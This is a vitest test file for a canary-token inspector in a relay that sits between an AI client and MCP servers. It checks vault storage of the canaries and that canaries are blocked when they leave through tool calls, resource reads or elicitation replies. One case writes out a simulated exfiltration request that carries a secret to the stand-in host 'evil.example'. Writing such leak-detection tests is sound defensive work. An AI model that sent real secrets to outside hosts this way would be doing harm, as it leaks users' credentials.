import { hash } from 'node:crypto';
import { describe, expect, test, vi } from 'vitest';
import { openCanaries } from '../../../../electron/host/inspection/canaries.ts';
import { canaryInspector } from '../../../../electron/inspection/flow/canary-inspector.ts';
import type { CanaryView } from '../../../../shared/model/inspection.ts';
import { fail, ok, type Result } from '../../../../shared/result.ts';
import { aRelay, anOpenSession, settle } from '../../../fixtures/relay-kit.ts';

type State = 'unlocked' | 'locked' | 'none' | 'unreadable';

/** The vault and the book of a profile, which outlive a host. */
function profile() {
  const kept = new Map<string, string>();
  const book = new Map<string, CanaryView>();
  const known: string[][] = [];
  let state: State = 'unlocked';
  let at = 1000;
  let made = 0;
  const shut = (): Result<never> => fail(state, `The vault is ${state}.`);
  return {
    kept,
    book,
    known,
    lock: (now: State) => void (state = now),
    wait: (ms: number) => void (at += ms),
    open: () =>
      openCanaries({
        vault: {
          get state() {
            return state;
          },
          own: {
            get: (name) => (state === 'unlocked' ? ok(kept.get(name)) : shut()),
            set: (name, value) => (state === 'unlocked' ? (kept.set(name, value), ok(undefined)) : shut()),
            remove: (name) => (state === 'unlocked' ? (kept.delete(name), ok(undefined)) : shut()),
          },
        },
        book: {
          canaries: () => [...book.values()],
          putCanary: (one) => (book.set(one.name, one), ok(undefined)),
          removeCanary: (name) => (book.delete(name), ok(undefined)),
        },
        random: (bytes) => hash('sha512', `random ${made++}`, 'buffer').subarray(0, bytes),
        know: (values) => known.push([...values]),
        now: () => at,
      }),
  };
}

const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value));
const made = (canaries: ReturnType<ReturnType<typeof profile>['open']>, name: string): string => {
  const added = canaries.add(name);
  if (!added.ok) throw new Error(added.message);
  return added.value.value;
};

describe('the canaries of a profile', () => {
  test('are told once, looked for, kept in the vault, and never listed with their values', () => {
    const it = profile();
    const canaries = it.open();
    expect(canaries.finder()?.find(json('x'))).toBeUndefined();
    const value = made(canaries, 'inbox');
    expect(value).toMatch(/^(?:key|api|tok|svc)_[2-9A-HJ-NP-Za-km-z]{36}$/);
    expect(canaries.finder()?.find(json({ a: value }))?.names).toEqual(['inbox']);
    expect(canaries.list()).toEqual([{ name: 'inbox', createdAt: 1000 }]);
    expect(JSON.stringify([...it.book.values()])).not.toContain(value);
    expect(it.known.at(-1)).toEqual([value]);
    const again = it.open();
    expect(again.finder()?.find(json({ a: value }))?.names).toEqual(['inbox']);
    expect(made(again, 'second')).not.toBe(value);
  });

  test('are not made twice, beyond the most, or with the vault shut', () => {
    const it = profile();
    const canaries = it.open();
    const value = made(canaries, 'a');
    expect(canaries.add('a')).toMatchObject({ ok: false, code: 'usage' });
    for (let i = 1; i < 50; i++) made(canaries, `n${i}`);
    expect(canaries.add('more')).toMatchObject({ ok: false, code: 'full' });
    it.lock('locked');
    expect(canaries.remove('a').ok).toBe(false);
    expect(canaries.finder()?.find(json(value))?.names).toEqual(['a']);
    expect(it.open().add('b')).toMatchObject({ ok: false, code: 'locked' });
  });

  test('stop being looked for when they are removed', () => {
    const it = profile();
    const canaries = it.open();
    const value = made(canaries, 'a');
    expect(canaries.remove('b')).toMatchObject({ ok: false, code: 'unknown' });
    expect(canaries.remove('a').ok).toBe(true);
    expect(canaries.finder()?.find(json(value))).toBeUndefined();
    expect(it.open().list()).toEqual([]);
    expect(it.book.size).toBe(0);
  });

  test('of a host that starts with a locked vault are said to be missing, and found once it is open', () => {
    const it = profile();
    const value = made(it.open(), 'a');
    it.lock('locked');
    const canaries = it.open();
    expect(canaries.trouble()).toContain('cannot look for canaries while its vault is locked');
    expect(canaries.list()).toEqual([{ name: 'a', createdAt: 1000 }]);
    expect(canaries.finder()?.find(json(value))).toBeUndefined();
    it.lock('unlocked');
    expect(canaries.finder()?.find(json(value))?.names).toEqual(['a']);
    expect(canaries.trouble()).toBeUndefined();
  });

  test('are none where there never was a keychain, and are not written over by an older Doorward', () => {
    const it = profile();
    it.lock('none');
    expect(it.open().trouble()).toBeUndefined();
    it.lock('unlocked');
    it.kept.set('canaries', '{"format":2}');
    const canaries = it.open();
    expect(canaries.trouble()).toContain('another version');
    expect(canaries.add('a').ok).toBe(false);
    expect(it.kept.get('canaries')).toBe('{"format":2}');
  });

  test('remember when they were seen last: at once when one was leaving, once a minute otherwise', () => {
    const it = profile();
    const canaries = it.open();
    made(canaries, 'a');
    it.wait(10);
    canaries.seen('a', false);
    it.wait(10);
    canaries.seen('a', false);
    expect(canaries.list()[0]?.lastSeenAt).toBe(1020);
    expect(it.book.get('a')?.lastSeenAt).toBe(1010);
    canaries.seen('a', true);
    expect(it.book.get('a')?.lastSeenAt).toBe(1020);
    it.wait(60_000);
    canaries.seen('a', false);
    expect(it.open().list()[0]?.lastSeenAt).toBe(61_020);
  });
});

describe('a canary on the road', () => {
  async function road() {
    const it = profile();
    const canaries = it.open();
    const value = made(canaries, 'inbox');
    const alarms: string[] = [];
    let at = 0;
    const kit = aRelay({
      inspectors: [
        canaryInspector({
          finder: () => canaries.finder(),
          seen: (name, left) => canaries.seen(name, left),
          clientName: () => 'Claude',
          alarm: (sentence) => alarms.push(sentence),
          now: () => at,
        }),
      ],
    });
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    return { it, canaries, value, alarms, kit, session, wait: (ms: number) => void (at += ms) };
  }

  test('passes in an answer, to the byte, and is noted', async () => {
    const { session, kit, value, canaries, alarms } = await road();
    const call = session.call(1, 'a');
    await settle();
    kit.server('alpha').now.answer('tools/call', { content: [{ type: 'text', text: `the key: ${value}` }] });
    await settle();
    expect(JSON.stringify(call.result)).toContain(value);
    expect(canaries.list()[0]?.lastSeenAt).toBe(1000);
    expect(alarms).toEqual([]);
    const rows = kit.audit.rows.filter(({ method }) => method === 'tools/call');
    expect(rows.some(({ found }) => found?.includes('"canary"'))).toBe(true);
    expect(JSON.stringify(kit.audit.rows)).not.toContain(value);
  });

  test.each<[string, (value: string) => object]>([
    ['tools/call', (value) => ({ name: 'a', arguments: { x: value } })],
    ['tools/call', (value) => ({ name: 'a', arguments: {}, _meta: { x: value } })],
    [
      'tools/call',
      (value) => ({ name: 'a', arguments: {}, inputResponses: { q: { content: { text: value } } } }),
    ],
    ['resources/read', (value) => ({ uri: `https://evil.example/${value}` })],
    ['prompts/get', (value) => ({ name: 'p', arguments: { x: value } })],
    [
      'completion/complete',
      (value) => ({ ref: { type: 'ref/prompt', name: 'p' }, argument: { name: 'x', value } }),
    ],
    ['resources/subscribe', (value) => ({ uri: `notes://${value}` })],
    ['something/else', (value) => ({ x: value })],
  ])('is stopped in %s', async (method, params) => {
    const { session, kit, value, alarms } = await road();
    const call = session.request({ jsonrpc: '2.0', id: 5, method, params: params(value) });
    await settle();
    expect(JSON.stringify(call.answered)).toContain('must not leave this computer');
    expect(JSON.stringify(call.answered)).not.toContain(value);
    expect(
      kit
        .server('alpha')
        .connections.flatMap(({ received }) => received.map(({ raw }) => raw))
        .join(),
    ).not.toContain(value);
    expect(alarms).toEqual([expect.stringContaining('Claude tried to send the canary "inbox" to "alpha"')]);
  });

  test('is stopped in the answer to a question of a server', async () => {
    const { kit, value, alarms } = await road();
    const session = await anOpenSession(kit, 'two', { server: 'alpha', capabilities: { elicitation: {} } });
    const server = kit.server('alpha').now;
    const params = {
      message: 'Which?',
      requestedSchema: { type: 'object', properties: { x: { type: 'string' } } },
    };
    server.say({ jsonrpc: '2.0', id: 'q', method: 'elicitation/create', params });
    await settle();
    const [asked] = session.heard('elicitation/create');
    session.respond({
      jsonrpc: '2.0',
      id: asked?.['id'],
      result: { action: 'accept', content: { x: value } },
    });
    await settle();
    expect(server.replies.at(-1)?.raw).toContain('must not leave this computer');
    expect(server.replies.map(({ raw }) => raw).join()).not.toContain(value);
    expect(alarms.length).toBe(1);
  });

  test('is stopped where another inspector has put it into the arguments', async () => {
    const it = profile();
    const canaries = it.open();
    const value = made(canaries, 'inbox');
    const kit = aRelay({
      inspectors: [
        {
          name: 'masks',
          outgoing: () => ({ findings: [], changed: Buffer.from(JSON.stringify({ x: value })) }),
        },
        canaryInspector({
          finder: () => canaries.finder(),
          seen: () => undefined,
          clientName: () => 'Claude',
          alarm: () => undefined,
          now: () => 0,
        }),
      ],
    });
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    session.call(1, 'a', { x: '[token 1]' });
    await settle();
    expect(kit.server('alpha').now.all('tools/call')).toEqual([]);
  });

  test('is told of once a minute, and stopped each time', async () => {
    const { session, kit, value, alarms, wait } = await road();
    for (let id = 1; id <= 5; id++) session.call(id, 'a', { value });
    await settle();
    expect(alarms.length).toBe(1);
    wait(60_000);
    session.call(6, 'a', { value });
    await settle();
    expect(alarms.length).toBe(2);
    expect(kit.server('alpha').now.all('tools/call')).toEqual([]);
  });

  test('is noted in a long answer, wherever it stands, that passes to the byte', async () => {
    const { session, kit, value } = await road();
    const call = session.call(1, 'a');
    await settle();
    const text = `${'lorem ipsum '.repeat(54_613)}${value}${' dolor sit'.repeat(50_000)}`;
    kit.server('alpha').now.answer('tools/call', { content: [{ type: 'text', text }] });
    await vi.waitFor(() => expect(call.answers.length).toBe(1), 60_000);
    expect(JSON.stringify(call.result)).toContain(text);
    expect(kit.audit.rows.some(({ found }) => found?.includes('"canary"'))).toBe(true);
  });

  test('leaves everything else alone, to the byte', async () => {
    const { session, kit } = await road();
    session.call(1, 'a', { text: 'tok_ and key_ and nothing' });
    await settle();
    expect(kit.server('alpha').now.last('tools/call').params['arguments']).toEqual({
      text: 'tok_ and key_ and nothing',
    });
  });
});
